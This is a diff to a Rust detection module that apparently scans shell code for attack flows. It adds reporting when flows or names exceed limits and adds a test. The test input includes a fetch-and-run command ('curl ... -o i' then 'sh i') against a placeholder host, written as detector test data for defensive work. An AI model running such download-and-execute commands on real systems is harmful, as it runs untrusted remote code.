@@ -16,12 +16,13 @@ use regex::bytes::{Match as Found, Regex};
 use skillc_core::source::lines::char_floor;
 use skillc_core::{Span, Stop};
 
+use super::examined::LeftOut;
 use super::hosts::{Address, addresses};
 use super::roles::{Role, role};
 use super::shell_flow::{Body, INPUT, MAX_NESTED, descriptors, opened, pieces, prints, runs_input};
 use super::signals::{Match, Signal};
 
-/// The maximum number of names that carry data.
+/// The maximum number of names that carry data. If there are more, SEC118 reports the file.
 const MAX_NAMES: usize = 10_000;
 
 /// The name that stands for all files in unpacked archives: a path that begins with `./` may be one of these files.
@@ -34,7 +35,7 @@ const MAX_STATEMENT: usize = 4000;
 const MAX_ADDRESSES: usize = 1000;
 
 /// The maximum number of flows in a layer with the same sink and the same kind of address. Harmless flows, such as
-/// those of known installers, must not hide the flow of an attack.
+/// those of known installers, must not hide the flow of an attack. If there are more, SEC118 reports the file.
 const MAX_FLOWS: usize = 200;
 
 /// The maximum number of places in a statement that may run a file or a variable. A statement with more of them is
@@ -114,11 +115,13 @@ impl Flow {
     }
 
     /// Adds the flow unless there are too many of its kind.
-    fn add_to(self, found: &mut Vec<Self>) {
+    fn add_to(self, found: &mut Vec<Self>, left_out: &LeftOut) {
         let kind = |flow: &Self| (flow.sink, flow.address.as_ref().map(|address| address.kind));
         let own = kind(&self);
         if found.iter().filter(|flow| kind(flow) == own).count() < MAX_FLOWS {
             found.push(self);
+        } else {
+            left_out.note();
         }
     }
 }
@@ -235,7 +238,13 @@ static FILE: LazyLock<Regex> = LazyLock::new(|| {
 ///
 /// `matches`: the signals in the text, sorted by position. `code`: the parts of the text that are code, in order. If
 /// the run is cancelled, the result is incomplete.
-pub(crate) fn flows(text: &str, matches: &[Match], code: &[Span], stop: &Stop) -> Vec<Flow> {
+pub(crate) fn flows(
+    text: &str,
+    matches: &[Match],
+    code: &[Span],
+    left_out: &LeftOut,
+    stop: &Stop,
+) -> Vec<Flow> {
     let mut names = Names::default();
     let mut found = Vec::new();
     for span in code.iter().flat_map(|of| statements(text, *of)) {
@@ -273,7 +282,7 @@ pub(crate) fn flows(text: &str, matches: &[Match], code: &[Span], stop: &Stop) -
             && !is_run
             && let Some(flow) = names.run_in(&statement, MAX_NESTED)
         {
-            flow.add_to(&mut found);
+            flow.add_to(&mut found, left_out);
         }
         let is_sent = [Signal::Send, Signal::DnsLookup, Signal::Net]
             .iter()
@@ -288,9 +297,12 @@ pub(crate) fn flows(text: &str, matches: &[Match], code: &[Span], stop: &Stop) -
                 secret: value.secret.clone(),
                 address: value.address.clone(),
             };
-            flow.add_to(&mut found);
+            flow.add_to(&mut found, left_out);
         }
         names.keep(statement.part, &value);
+    }
+    if names.is_full {
+        left_out.note();
     }
     found
 }
@@ -324,6 +336,8 @@ struct Names {
     body: Option<Body>,
     /// Whether descriptors are held.
     has_descriptors: bool,
+    /// Whether a name was not kept because of [`MAX_NAMES`].
+    is_full: bool,
 }
 
 impl Names {
@@ -500,6 +514,8 @@ impl Names {
     fn set(&mut self, name: &str, value: &Value) {
         if self.held.len() < MAX_NAMES || self.held.contains_key(name) {
             self.held.entry(name.to_owned()).or_default().add(value);
+        } else {
+            self.is_full = true;
         }
     }
 }
@@ -537,8 +553,8 @@ fn assigned_inside(part: &str) -> Option<&str> {
 
 /// Returns the file that a statement writes: the file name without folders, or the variable that contains it.
 pub(crate) fn saved(part: &str) -> Option<&str> {
-    let all = SAVED.captures_iter(part.as_bytes()).take(5);
-    let named = all.into_iter().find_map(|found| {
+    let mut all = SAVED.captures_iter(part.as_bytes());
+    let named = all.find_map(|found| {
         let path = text_of(part, found.name("p")?);
         let is_read = part.contains("open(")
             && !["'w", "\"w", "'a", "\"a", "write"]
@@ -560,7 +576,7 @@ pub(crate) fn saved(part: &str) -> Option<&str> {
 
 /// Returns the archives, temporary files and programs that a statement mentions and may write.
 fn files(part: &str) -> impl Iterator<Item = &str> {
-    let found = FILE.find_iter(part.as_bytes()).take(8);
+    let found = FILE.find_iter(part.as_bytes());
     found
         .filter(|found| !part[..found.start()].ends_with(['/', '.']))
         .flat_map(|found| {
@@ -790,13 +806,17 @@ mod tests {
         }
     }
 
-    fn found(text: &str) -> Vec<(Sink, Labels)> {
+    fn matches_of(text: &str) -> Vec<Match> {
         let path = RelPath::parse("a.sh").unwrap();
         let revealed = Revealed::from_text(&path, text);
         let layer = &revealed.files[0].layers[0];
-        let matches = matches(layer, &Stop::default()).unwrap_or_default();
+        matches(layer, &Stop::default()).unwrap_or_default()
+    }
+
+    fn found(text: &str) -> Vec<(Sink, Labels)> {
+        let matches = matches_of(text);
         let code = [Span::new(0, text.len())];
-        let flows = flows(text, &matches, &code, &Stop::default());
+        let flows = flows(text, &matches, &code, &LeftOut::default(), &Stop::default());
         flows.iter().map(|flow| (flow.sink, flow.labels)).collect()
     }
 
@@ -915,6 +935,27 @@ mod tests {
         }
         // Only the data that a statement uses is assumed to be run.
         assert!(found(&many).is_empty());
+    }
+
+    #[test]
+    fn data_that_is_not_followed_is_noted() {
+        let names = |count: usize| -> String {
+            let lines = (0..count).map(|n| format!("x{n}=https://a.invalid/i\n"));
+            lines.collect::<Vec<String>>().concat()
+        };
+        let runs = |count: usize| "curl https://a.invalid/i -o i\nsh i\n".repeat(count);
+        for (text, expected) in [
+            (names(MAX_NAMES - 100), false),
+            (names(MAX_NAMES + 100), true),
+            (runs(MAX_FLOWS / 4), false),
+            (runs(2 * MAX_FLOWS), true),
+        ] {
+            let left_out = LeftOut::default();
+            let matches = matches_of(&text);
+            let code = [Span::new(0, text.len())];
+            flows(&text, &matches, &code, &left_out, &Stop::default());
+            assert_eq!(left_out.is_noted(), expected, "{text:.40}");
+        }
     }
 
     #[test]
